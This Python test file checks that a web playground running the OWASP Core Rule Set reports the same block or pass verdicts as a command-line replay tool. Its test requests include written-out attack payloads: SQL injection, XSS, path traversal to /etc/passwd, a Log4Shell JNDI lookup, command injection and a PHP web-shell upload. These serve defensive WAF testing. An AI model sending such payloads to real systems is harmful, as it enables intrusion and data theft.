#!/usr/bin/python3
"""The playground with OWASP CRS: its verdicts are those of the program."""

import base64
import json

from playground import PlaygroundTest, ROOT, SHARED, run, state

BASE = "Host: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: text/html\r\n"
FORM = "Content-Type: application/x-www-form-urlencoded\r\n"


def post(body, kind, path="/form", charset="utf-8"):
    data = body if isinstance(body, bytes) else body.encode(charset)
    return (f"POST {path} HTTP/1.1\r\n{BASE}Content-Type: {kind}\r\n"
            f"Content-Length: {len(data)}\r\n\r\n").encode() + data


def get(path, more=""):
    return f"GET {path} HTTP/1.1\r\n{BASE}{more}\r\n".encode()


FIELDS = ("--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\n"
          "<?php system('id');\r\n--b--\r\n")
# A request, the paranoia level, and rules of one's own.
ROWS = [
    (get("/"), 1, ""),
    (get("/?id=1'%20OR%201=1--%20-"), 1, ""),
    (get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"), 2, ""),
    (get("/download?file=../../../../etc/passwd"), 1, ""),
    (get("/", "X-Api: ${jndi:ldap://x.example/a}\r\n"), 1, ""),
    (get("/?a=b%00c&d=%ff"), 4, ""),
    (post("a=1;cat+/etc/passwd", "application/x-www-form-urlencoded"), 1, ""),
    (post('{"a":{"b":["<svg onload=alert(1)>"]}}', "application/json"), 1, ""),
    (post("<a><b>1 UNION SELECT x FROM y</b></a>", "text/xml"), 2, ""),
    (post(FIELDS, "multipart/form-data; boundary=b"), 1, ""),
    (post(b"a=\xff\xfe\x00union select", "application/x-www-form-urlencoded"), 3, ""),
    (b"POST /old HTTP/1.0\r\n\r\nx", 1, ""),
    (get("/?id=1'%20OR%201=1--%20-"), 1, 'SecRuleUpdateTargetById 942100 "!ARGS:id"\n'),
]


class Crs(PlaygroundTest):
    def setUp(self):
        super().setUp()
        if not self.has_crs:
            self.skipTest("this playground was built without CRS: playground/build --crs DIR")

    def native(self, request, level, own):
        crs = SHARED / "crs"
        if not crs.exists():
            self.skipTest(f"no test data at {crs}")
        path = self.file("request.http", request)
        rules = [ROOT / "rules/wafcheck/recommended.conf", crs / "crs-setup.conf.example",
                 crs / "rules", self.file("rules.conf", own or "# none\n")]
        arguments = [word for each in rules for word in ("-r", each)]
        return json.loads(self.wafcheck("replay", "-q", "--format", "jsonl", "--all-matches",
                                        "--no-timing", "--pl", level, *arguments, path))

    def test_verdicts_are_those_of_replay(self):
        blocked = 0
        for request, level, own in ROWS:
            with self.subTest(request[:60], level=level):
                wanted = self.native(request, level, own)
                self.visit(state(base="crs", recommended=True, paranoia=level, after=own,
                                 request_base64=base64.b64encode(request).decode()))
                self.wait(lambda: self.text("#verdict") != "Starting…" or None)
                self.wait(lambda: self.all(".cards") or None)
                interruption = wanted["interruption"]
                if interruption:
                    blocked += 1
                    self.assertEqual(self.text("#verdict"), f"Blocked {interruption['status']}")
                    self.assertTrue(self.text("#verdict-detail").startswith(
                        f"by rule {interruption['rule_id']} in phase {interruption['phase']}"))
                else:
                    self.assertEqual(self.text("#verdict"), "Passed")
                self.assertTrue(self.text("#scores").startswith(f"score {wanted['scores']['inbound']} "))
                shown = self.script("""return [...document.querySelectorAll('#view .id')].map(
                    (node) => node.textContent);""")
                self.assertEqual(set(shown), {str(rule["id"]) for rule in wanted["matched_rules"]})
        self.assertGreater(blocked, 8)

    def test_the_paranoia_level_can_be_chosen(self):
        self.visit(state(base="crs", recommended=True, paranoia=1, request=get("/?a=b%00c").decode()))
        self.wait(lambda: self.text("#scores") or None)
        low = self.text("#scores")
        self.choose("paranoia", "4")
        self.wait(lambda: self.text("#scores") != low)

    def test_exclusions_before_and_after_hold(self):
        request = get("/?id=1'%20OR%201=1--%20-").decode()
        for member, text in (
                ("after", "SecRuleRemoveById 942100\n"),
                ("before", 'SecAction "id:1000,phase:1,pass,nolog,ctl:ruleRemoveById=942100"\n')):
            with self.subTest(member):
                self.visit(state(base="crs", recommended=True, request=request, **{member: text}))
                self.verdict("Passed")

    def test_marks_of_earlier_rules_go_at_once(self):
        self.evaluated(state(after='SecRule ARG "@rx a" "id:1,pass"\n', request=get("/").decode()))
        self.wait(lambda: self.all("#rules-editor .cm-lint-marker"))
        self.choose("examples", str(next(
            at for at, each in enumerate(self.all("#examples option")) if each.text == "SQL injection (CRS)") - 1))
        self.verdict("Blocked 403")
        self.assertEqual(self.all("#rules-editor .cm-lint-marker"), [])

    def test_findings_are_those_of_ones_own_rules(self):
        self.visit(state(base="crs", recommended=True, request=get("/").decode(),
                         after='SecRule ARGS "@rx ^a$" "id:942100,phase:2,pass"\n'))
        self.verdict("The rules do not load")
        self.show("findings")
        self.wait(lambda: self.all(".finding.error"))
        self.assertIn("942100", self.text(".finding.error"))


class WithoutCrs(PlaygroundTest):
    def test_it_says_that_there_is_none(self):
        self.base = self.origin + "none/"
        self.visit(state(base="crs", request=get("/").decode()))
        self.said("This copy of the playground has no OWASP CRS")
        self.verdict("Passed")
        option = self.one('#base option[value="crs"]')
        self.assertEqual(option.text, "OWASP CRS: not in this copy")
        self.assertIsNotNone(option.get_attribute("disabled"))


if __name__ == "__main__":
    run()
